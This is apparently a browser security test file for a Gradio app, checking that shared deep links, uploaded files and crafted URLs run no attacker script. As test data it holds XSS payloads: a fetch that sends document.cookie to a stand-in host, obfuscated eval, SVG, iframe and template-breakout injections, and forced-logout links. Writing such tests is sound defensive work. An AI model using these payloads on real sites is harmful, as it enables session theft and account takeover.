"""Links that somebody signed in follows, and what another person made for them: no script of theirs runs."""

from __future__ import annotations

import json
import time
from collections.abc import Iterator, Mapping
from contextlib import suppress
from pathlib import Path
from typing import Any

import gradio as gr
import pytest
from playwright.sync_api import Browser, expect
from playwright.sync_api import Error as PlaywrightError

from tests.browser.conftest import Elsewhere, Enter, Person
from tests.support.app_server import AppServer

API = "/gradio/gradio_api"
LION = Path(gr.__file__).parent / "media_assets/images/lion.jpg"
SCRIPT = "window.hit = true; fetch('ELSEWHERE/stolen?' + document.cookie);"
CODED = f"eval(String.fromCharCode({','.join(str(ord(letter)) for letter in 'window.hit=true')}))"
"""Without a character that HTML has to escape."""
HANDLER = f'<img src=x onerror="{SCRIPT}">'
SETTLED_SECONDS = 2.0


def chatting() -> gr.Blocks:
    with gr.Blocks() as blocks:
        document, picture = gr.JSON(visible=False), gr.File(visible=False)
        gr.DeepLinkButton("Share")
        chart = gr.Plot()
        config = {**chart.get_config(), "bokeh_version": "3.8.1"}
        chart.get_config = lambda: {**config}  # type: ignore[method-assign,assignment]  # as where Bokeh is installed
        blocks_of = {
            "chat": gr.Chatbot(),
            "html": gr.HTML(),
            "template": gr.HTML(html_template="{{value}} {{{value}}} ${value}", css_template="a { top: {{value}} }"),
            "markdown": gr.Markdown(),
            "plot": chart,
        }
        for name, block in blocks_of.items():
            gr.Button(name).click(lambda value: value, document, block, api_name=f"show_{name}")
            gr.Button(f"{name} of its own").click(lambda value: value, block, block, api_name=f"repeat_{name}")
        gr.Button("picture").click(lambda path: path, picture, gr.Image(elem_id="shown"), api_name="show_picture")
    return blocks


@pytest.fixture(scope="module")
def server() -> Iterator[AppServer]:
    with AppServer({}, main_blocks=chatting, mcp_server=True) as server:
        yield server


@pytest.fixture(scope="module")
def mallory(chromium: Browser, server: AppServer) -> Iterator[Person]:
    person = Person(server, chromium.new_context())
    person.enters("Olga Outside")
    yield person
    person.context.close()


def ask(person: Person, method: str, path: str, **request: Any) -> Any:
    answer = person.context.request.fetch(
        f"{person.server.url}{API}/{path}", method=method, headers={"Sec-Fetch-Site": "same-origin"}, **request
    )
    return answer.json() if answer.ok else None


def upload(person: Person, name: str, content: bytes) -> str:
    file = {"name": name, "mimeType": "application/octet-stream", "buffer": content}
    (path,) = ask(person, "POST", "upload", multipart={"files": file})
    return str(path)


def linked(person: Person, function: str, value: object) -> str | None:
    """The name of a deep link to what a function showed; None where there is none."""
    session = f"s{time.monotonic_ns()}"
    if ask(person, "POST", f"run/{function}", data={"data": [value], "session_hash": session}) is None:
        return None
    return ask(person, "GET", f"deep_link?session_hash={session}") or None


def is_untouched(person: Person, elsewhere: Elsewhere) -> bool:
    """For some time nothing ran, nothing went elsewhere, and nobody was signed out."""
    person.tab.wait_for_timeout(SETTLED_SECONDS * 1000)
    is_in = person.context.request.get(f"{person.server.url}/user/me").ok
    return is_in and not elsewhere.asked and not person.tab.evaluate("() => window.hit")


# -- an address of the app's that leads to what others wrote ----------------------------------------------------------

REFLECTED: Mapping[str, str] = {
    "a file that lies elsewhere": f"{API}/file=ELSEWHERE/a.html",
    "the same in capitals": f"{API}/file=HTTP://HOST/a.html",
    "the same by the other route": f"{API}/file/ELSEWHERE/a.html",
    "the same through a proxy": f"{API}/proxy=ELSEWHERE/a.html",
    "a file that stands in the address": f"{API}/file=data:text/html,<script>MARKUP</script>",
    "a path of MCP": f"{API}/mcp/%3C%2Fscript%3E%3Cscript%3EMARKUP%3C%2Fscript%3E/gradio_api/mcp",
    "a path of MCP with a slash": f"{API}/mcp/%3C%2Fscript%3E%3Cscript%3EMARKUP%3C%2Fscript%3E/gradio_api/mcp/",
    "a query of MCP": f"{API}/mcp/?x=%3C%2Fscript%3E%3Cscript%3EMARKUP%3C%2Fscript%3E",
    "a path that is none": "/%3Cscript%3EMARKUP%3C%2Fscript%3E",
    "a path of the Blocks that is none": "/gradio/%3C%2Fscript%3E%3Cscript%3EMARKUP%3C%2Fscript%3E",
    "a view": "/gradio/?view=%3C%2Fscript%3E%3Cscript%3EMARKUP%3C%2Fscript%3E",
    "a theme": "/gradio/?__theme=%22%3E%3Cscript%3EMARKUP%3C%2Fscript%3E",
    "a deep link that is none": "/gradio/?deep_link=%3C%2Fscript%3E%3Cscript%3EMARKUP%3C%2Fscript%3E",
    "a reason": "/login-demo/?reason=%3Cscript%3EMARKUP%3C%2Fscript%3E",
    "a provider": "/login?provider=%3Cscript%3EMARKUP%3C%2Fscript%3E",
}


@pytest.mark.parametrize("path", REFLECTED.values(), ids=REFLECTED)
def test_no_address_of_the_app_runs_what_stands_in_it_or_lies_elsewhere(
    enter: Enter, server: AppServer, elsewhere: Elsewhere, path: str
) -> None:
    ada = enter(server, is_attacked=True)
    ada.enters()
    elsewhere.asked.clear()
    path = path.replace("ELSEWHERE", elsewhere.url).replace("HOST", elsewhere.url.removeprefix("http://"))
    with suppress(PlaywrightError):  # it is downloaded
        ada.opens(path.replace("MARKUP", SCRIPT.replace("ELSEWHERE", elsewhere.url)))
    assert is_untouched(ada, elsewhere)


FILES: Mapping[str, str] = {
    "a.html": f"<script>{SCRIPT}</script>",
    "a.svg": f"<svg xmlns='http://www.w3.org/2000/svg' onload=\"{SCRIPT}\"><script>{SCRIPT}</script></svg>",
    "a.xml": f"<x xmlns:h='http://www.w3.org/1999/xhtml'><h:script>{SCRIPT}</h:script></x>",
    "a.txt": f"<html><script>{SCRIPT}</script>",
    "a.png": f"<html><script>{SCRIPT}</script>",
    "a": f"<html><script>{SCRIPT}</script>",
}


@pytest.mark.parametrize("name", FILES)
def test_no_file_runs_a_script_not_even_ones_own(
    enter: Enter, server: AppServer, elsewhere: Elsewhere, name: str
) -> None:
    ada = enter(server, is_attacked=True)
    ada.enters()
    elsewhere.asked.clear()
    path = upload(ada, name, FILES[name].replace("ELSEWHERE", elsewhere.url).encode())
    with suppress(PlaywrightError):  # it is downloaded
        ada.opens(f"{API}/file={path}")
    assert is_untouched(ada, elsewhere)


def test_ones_own_picture_is_shown(enter: Enter, server: AppServer) -> None:
    ada = enter(server)
    ada.enters()
    tab = ada.opens(f"{API}/file={upload(ada, 'lion.jpg', LION.read_bytes())}")
    assert tab.evaluate("() => document.images[0].naturalWidth")


# -- a deep link to what another person made --------------------------------------------------------------------------


def said(component: str, value: object, **props: object) -> list[Any]:
    part = {"type": "component", "component": component, "value": value, "constructor_args": props, "props": props}
    return [{"role": "user", "content": [part]}]


CUSTOM = {"type": "object", "name": "CustomJS", "id": "p2", "attributes": {"code": "SCRIPT"}}
CHART = {
    "type": "bokeh",
    "plot": json.dumps(
        {
            "target_id": None,
            "root_id": "p1",
            "doc": {
                "version": "3.8.1",
                "title": "",
                "roots": [{"type": "object", "name": "Div", "id": "p1", "attributes": {"text": "x"}}],
                "callbacks": {"type": "map", "entries": [["document_ready", [CUSTOM]]]},
            },
            "version": "3.8.1",
        }
    ),
}
MADE: Mapping[str, tuple[str, Any]] = {
    "a chart's script in a chat": ("chat", said("plot", CHART, bokeh_version="3.8.1")),
    "a chart's script": ("plot", CHART),
    "markup in a component of a chat": ("chat", said("html", HANDLER)),
    "a script in a component of a chat": ("chat", said("html", "x", js_on_load=SCRIPT)),
    "a template in a component of a chat": ("chat", said("html", "x", html_template="${(() => { SCRIPT })()}")),
    "a template of its css": ("chat", said("html", "x", css_template="${(() => { SCRIPT })()}")),
    "a head in a component of a chat": ("chat", said("html", "x", head=f"<script>{SCRIPT}</script>")),
    "markup in a message": ("chat", [{"role": "user", "content": [{"type": "text", "text": HANDLER}]}]),
    "an address in a message": (
        "chat",
        [{"role": "user", "content": [{"type": "text", "text": "[x](javascript:SCRIPT) ![x](ELSEWHERE/a.png)"}]}],
    ),
    "markup": ("html", HANDLER),
    "a frame": ("html", f"<iframe srcdoc='<script>{SCRIPT.replace(chr(39), chr(34))}</script>'></iframe>"),
    "properties": ("html", {"__type__": "update", "value": "x", "js_on_load": SCRIPT}),
    "a text with markup": ("markdown", HANDLER),
    "a text for a template": ("template", "${(() => { SCRIPT })()}"),
    "a text that ends a template": ("template", "`; SCRIPT //"),
    "a text that ends a template, escaped": ("template", "\\`; SCRIPT //"),
    "an escaped text for a template": ("template", "\\${(() => { SCRIPT })()}"),
    "letters for a template": ("template", "${(() => { CODED })()}"),
    "letters for a template, escaped": ("template", "\\${(() => { CODED })()}"),
    "a picture that signs out": ("markdown", "![x](/logout?everywhere=1)"),
    "a frame that signs out": ("html", "<iframe src='/logout?everywhere=1'></iframe>"),
}


@pytest.mark.parametrize("function", ["show", "repeat"])
@pytest.mark.parametrize(("block", "value"), MADE.values(), ids=MADE)
def test_a_deep_link_runs_nothing_of_whoever_made_it(
    enter: Enter, server: AppServer, elsewhere: Elsewhere, mallory: Person, block: str, value: Any, function: str
) -> None:
    link = linked(mallory, f"{function}_{block}", _addressed(value, elsewhere.url))
    ada = enter(server, is_attacked=True)
    ada.enters()
    elsewhere.asked.clear()
    ada.opens(f"/gradio/?deep_link={link}")
    expect(ada.tab.get_by_role("button", name="picture")).to_be_visible()
    assert is_untouched(ada, elsewhere)


def _addressed(value: Any, url: str) -> Any:
    if isinstance(value, str):
        return value.replace("SCRIPT", SCRIPT).replace("CODED", CODED).replace("ELSEWHERE", url)
    if isinstance(value, dict):
        return {name: _addressed(part, url) for name, part in value.items()}
    return [_addressed(part, url) for part in value] if isinstance(value, list) else value


def test_a_deep_link_shows_the_picture_that_was_shared(enter: Enter, server: AppServer, mallory: Person) -> None:
    path = upload(mallory, "lion.jpg", LION.read_bytes())
    link = linked(mallory, "show_picture", {"path": path, "meta": {"_type": "gradio.FileData"}})
    ada = enter(server)
    ada.enters()
    picture = ada.opens(f"/gradio/?deep_link={link}").locator("#shown img")
    expect(picture).to_be_visible()
    assert picture.evaluate("image => image.decode().then(() => image.naturalWidth)")


def test_a_deep_link_of_the_main_blocks_leaves_the_sign_in_page_as_it_is(
    enter: Enter, server: AppServer, mallory: Person
) -> None:
    link = linked(mallory, "show_html", "something else")
    assert link
    stranger = enter(server)
    tab = stranger.opens(f"/login-demo/?deep_link={link}")
    stranger.chooses()
    expect(tab).to_have_url(f"{server.url}/gradio/")
